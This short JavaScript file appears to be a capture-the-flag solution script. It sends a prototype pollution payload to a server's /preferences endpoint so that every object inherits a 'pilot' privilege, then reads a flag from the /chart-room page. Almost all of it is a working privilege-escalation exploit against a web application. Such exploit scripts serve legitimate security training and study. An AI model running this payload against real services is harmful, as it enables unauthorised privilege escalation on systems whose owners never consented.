// @ts-check

const marina = `http://${process.argv[2] ?? '127.0.0.1:8080'}`
// All objects inherit from `theme.__proto__`, so this makes every user a pilot.
await fetch(`${marina}/preferences`, {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: '{"theme":{"__proto__":{"pilot":true}}}',
})
const answer = await (await fetch(`${marina}/chart-room`)).text()
console.log(/flag\{[^}]+\}/.exec(answer)?.[0])
